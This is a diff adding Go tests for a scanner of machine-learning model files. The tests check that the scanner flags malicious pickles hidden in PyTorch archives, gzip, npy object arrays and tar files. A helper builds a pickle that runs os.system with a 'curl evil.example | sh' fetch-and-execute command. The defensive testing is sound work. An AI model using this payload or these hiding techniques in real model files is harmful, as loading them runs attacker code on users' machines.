@@ -1,0 +1,281 @@
+package scan
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"encoding/binary"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/mlgate/mlgate/finding"
+	"github.com/mlgate/mlgate/scan/pickle/pickletest"
+)
+
+func evilPickle() []byte {
+	var a pickletest.Asm
+	return a.Proto(2).Call("os", "system", "curl evil.example | sh").Stop().Bytes()
+}
+
+type entry struct {
+	name string
+	data []byte
+}
+
+func zipOf(t *testing.T, entries ...entry) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	zw := zip.NewWriter(&b)
+	for _, e := range entries {
+		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Store})
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write(e.data)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+func torchZip(t *testing.T, dataPkl []byte) []byte {
+	return zipOf(t,
+		entry{"archive/data.pkl", dataPkl},
+		entry{"archive/byteorder", []byte("little")},
+		entry{"archive/data/0", bytes.Repeat([]byte{0x80, 0x02}, 64)}, // raw tensor bytes that look like a pickle: never parsed
+		entry{"archive/version", []byte("3\n")},
+	)
+}
+
+func scanBytes(t *testing.T, name string, b []byte, opts Options) *Artifact {
+	t.Helper()
+	p := filepath.Join(t.TempDir(), name)
+	if err := os.WriteFile(p, b, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	a, err := File(p, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return a
+}
+
+func ruleIDs(a *Artifact) []string {
+	var out []string
+	for _, f := range a.Findings {
+		out = append(out, f.RuleID+" "+f.Location.Logical)
+	}
+	return out
+}
+
+func hasRule(a *Artifact, id, text string) bool {
+	for _, f := range a.Findings {
+		if f.RuleID == id && strings.Contains(f.Message+" "+f.Location.Logical, text) {
+			return true
+		}
+	}
+	return false
+}
+
+func worst(a *Artifact) finding.Severity {
+	s := finding.Info
+	for _, f := range a.Findings {
+		s = max(s, f.Severity)
+	}
+	return s
+}
+
+func TestBenignArtifactsAreClean(t *testing.T) {
+	npy := npyFile("<f4", bytes.Repeat([]byte{0, 0, 128, 63}, 4))
+	cases := map[string][]byte{
+		"model.pt":     torchZip(t, pickletest.TorchStateDict(20)),
+		"weights.bin":  torchZip(t, pickletest.TorchStateDict(2)),
+		"legacy.pt":    legacyTorchFile(pickletest.TorchStateDict(2)),
+		"array.npy":    npy,
+		"state.pkl.gz": gzipOf(t, plainPickle()),
+		"no-extension": plainPickle(),
+		"archive.zip":  zipOf(t, entry{"README.md", []byte("hello")}, entry{"a/state.pkl", plainPickle()}),
+	}
+	for name, b := range cases {
+		t.Run(name, func(t *testing.T) {
+			a := scanBytes(t, name, b, Options{})
+			if worst(a) >= finding.High {
+				t.Errorf("benign %s (%s): %v", name, a.Format, ruleIDs(a))
+			}
+		})
+	}
+}
+
+func plainPickle() []byte {
+	var a pickletest.Asm
+	return a.Proto(4).Str("k").Int(1).Tuple2().Stop().Bytes()
+}
+
+func legacyTorchFile(model []byte) []byte {
+	var b bytes.Buffer
+	b.Write([]byte{0x80, 0x02, 0x8a, 0x0a, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19, 0x2e}) // magic number
+	var a pickletest.Asm
+	b.Write(a.Proto(2).Int(1001).Stop().Bytes()) // protocol version
+	a.Reset()
+	b.Write(a.Proto(2).EmptyDict().Stop().Bytes()) // sys info
+	b.Write(model)
+	a.Reset()
+	b.Write(a.Proto(2).Mark().Str("0").Op('l').Stop().Bytes()) // storage keys
+	b.Write(bytes.Repeat([]byte{0xde, 0xad}, 100))             // raw storage bytes: never parsed
+	return b.Bytes()
+}
+
+func gzipOf(t *testing.T, b []byte) []byte {
+	var out bytes.Buffer
+	zw := gzip.NewWriter(&out)
+	zw.Write(b)
+	zw.Close()
+	return out.Bytes()
+}
+
+func npyFile(descr string, data []byte) []byte {
+	header := "{'descr': '" + descr + "', 'fortran_order': False, 'shape': (4,), }"
+	for (10+len(header)+1)%64 != 0 {
+		header += " "
+	}
+	header += "\n"
+	var b bytes.Buffer
+	b.WriteString("\x93NUMPY\x01\x00")
+	binary.Write(&b, binary.LittleEndian, uint16(len(header)))
+	b.WriteString(header)
+	b.Write(data)
+	return b.Bytes()
+}
+
+func TestMaliciousArtifacts(t *testing.T) {
+	evil := evilPickle()
+	var stacked bytes.Buffer
+	stacked.Write(plainPickle())
+	stacked.Write(evil)
+	cases := []struct {
+		name, file string
+		data       []byte
+		rule, text string
+	}{
+		{"torch zip with payload", "model.pt", torchZip(t, evil), PickleDangerousGlobal.ID, "os.system('curl evil.example | sh')"},
+		{"payload in a zip entry not named .pkl", "model.pt", zipOf(t, entry{"archive/data.pkl", pickletest.TorchStateDict(1)}, entry{"archive/extra/blob", evil}), PickleDangerousGlobal.ID, "archive/extra/blob"},
+		{"legacy torch with payload", "legacy.pth", legacyTorchFile(evil), PickleDangerousGlobal.ID, "os.system"},
+		{"unexpected extension", "config.txt", evil, PickleDangerousGlobal.ID, "os.system"},
+		{"gzip-wrapped pickle", "model.pkl.gz", gzipOf(t, evil), PickleDangerousGlobal.ID, "(gzip)"},
+		{"second pickle after a benign one", "model.pkl", stacked.Bytes(), PickleDangerousGlobal.ID, "os.system"},
+		{"npy object array", "x.npy", npyFile("|O", evil), PickleDangerousGlobal.ID, "(object array)"},
+		{"duplicate zip entries", "model.pt", zipOf(t, entry{"archive/data.pkl", pickletest.TorchStateDict(1)}, entry{"archive/data.pkl", evil}), ZipAnomaly.ID, "2 entries named"},
+		{"7z container", "model.7z", append([]byte{'7', 'z', 0xbc, 0xaf, 0x27, 0x1c}, make([]byte, 64)...), UnscannableContainer.ID, "7z"},
+		{"tar legacy", "model.tar", tarOf(t, "model.pkl", evil), UnscannableContainer.ID, "tar"},
+		{"torch zip with non-storage persistent id", "model.pt", torchZip(t, func() []byte {
+			var a pickletest.Asm
+			return a.Proto(2).Str("x").Op('Q').Stop().Bytes()
+		}()), PicklePersistentID.ID, "not a torch storage"},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			a := scanBytes(t, c.file, c.data, Options{})
+			if !hasRule(a, c.rule, c.text) {
+				t.Errorf("want %s mentioning %q; format %s, got %v", c.rule, c.text, a.Format, ruleIDs(a))
+			}
+		})
+	}
+}
+
+func tarOf(t *testing.T, name string, data []byte) []byte {
+	var b bytes.Buffer
+	tw := tar.NewWriter(&b)
+	tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(data))})
+	tw.Write(data)
+	tw.Close()
+	return b.Bytes()
+}
+
+func TestZipCRCMismatch(t *testing.T) {
+	b := torchZip(t, pickletest.TorchStateDict(1))
+	// Flip one byte of the stored data.pkl content after its local header.
+	i := bytes.Index(b, []byte("archive/data.pkl")) + len("archive/data.pkl") + 5
+	b[i] ^= 0xff
+	a := scanBytes(t, "model.pt", b, Options{})
+	if !hasRule(a, ZipAnomaly.ID, "checksum") && !hasRule(a, ZipAnomaly.ID, "differs") {
+		t.Errorf("CRC mismatch not reported: %v", ruleIDs(a))
+	}
+}
+
+func TestStrictPolicyReportsAnyPickle(t *testing.T) {
+	a := scanBytes(t, "state.pkl", plainPickle(), Options{Strict: true})
+	if !hasRule(a, PickleForbidden.ID, "strict") {
+		t.Errorf("strict: %v", ruleIDs(a))
+	}
+}
+
+func TestFormatsAreReported(t *testing.T) {
+	st := []byte{14, 0, 0, 0, 0, 0, 0, 0}
+	st = append(st, []byte(`{"a":"b"}     `)...)
+	for name, want := range map[string]string{
+		"model.pt":      "pytorch-zip",
+		"legacy.pt":     "pytorch-legacy",
+		"m.safetensors": "safetensors",
+		"m.gguf":        "gguf",
+		"readme.txt":    "unknown",
+	} {
+		var data []byte
+		switch name {
+		case "model.pt":
+			data = torchZip(t, pickletest.TorchStateDict(1))
+		case "legacy.pt":
+			data = legacyTorchFile(pickletest.TorchStateDict(1))
+		case "m.safetensors":
+			data = st
+		case "m.gguf":
+			data = append([]byte("GGUF"), make([]byte, 20)...)
+		default:
+			data = []byte("just text")
+		}
+		if a := scanBytes(t, name, data, Options{}); a.Format != want {
+			t.Errorf("%s: format %s, want %s", name, a.Format, want)
+		}
+	}
+}
+
+func TestDetect(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name string, b []byte) string {
+		p := filepath.Join(dir, name)
+		os.WriteFile(p, b, 0o644)
+		return p
+	}
+	for name, want := range map[string]string{
+		"model.bin":   "pickle",
+		"notes.txt":   "",
+		"docs.zip":    "",
+		"model.pt":    "zip",
+		"data.pkl.gz": "compressed",
+		"logs.gz":     "",
+		"proto0.pkl":  "pickle",
+		"proto0.txt":  "",
+	} {
+		var b []byte
+		switch name {
+		case "model.bin":
+			b = evilPickle()
+		case "docs.zip":
+			b = zipOf(t, entry{"word/document.xml", []byte("<x/>")})
+		case "model.pt":
+			b = torchZip(t, plainPickle())
+		case "data.pkl.gz", "logs.gz":
+			b = gzipOf(t, []byte("x"))
+		case "proto0.pkl", "proto0.txt":
+			b = []byte("(lp0\n.")
+		default:
+			b = []byte("hello")
+		}
+		if got := Detect(write(name, b)); got != want {
+			t.Errorf("Detect(%s) = %q, want %q", name, got, want)
+		}
+	}
+}
